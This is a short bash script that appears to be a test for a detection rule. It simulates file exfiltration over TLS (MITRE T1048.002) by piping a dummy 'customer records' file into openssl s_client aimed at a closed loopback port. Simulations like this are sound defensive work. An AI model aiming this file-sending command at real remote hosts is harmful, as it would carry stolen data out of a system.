#!/usr/bin/env bash
# rule: exfiltration-openssl-client-file-transfer
# mitre: T1048.002
# openssl s_client with a scratch file on stdin, to a closed loopback port.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
echo "customer records" > loot.txt
"$(tool openssl)" s_client -quiet -connect "127.0.0.1:$(free_port)" < loot.txt > /dev/null 2>&1 || true
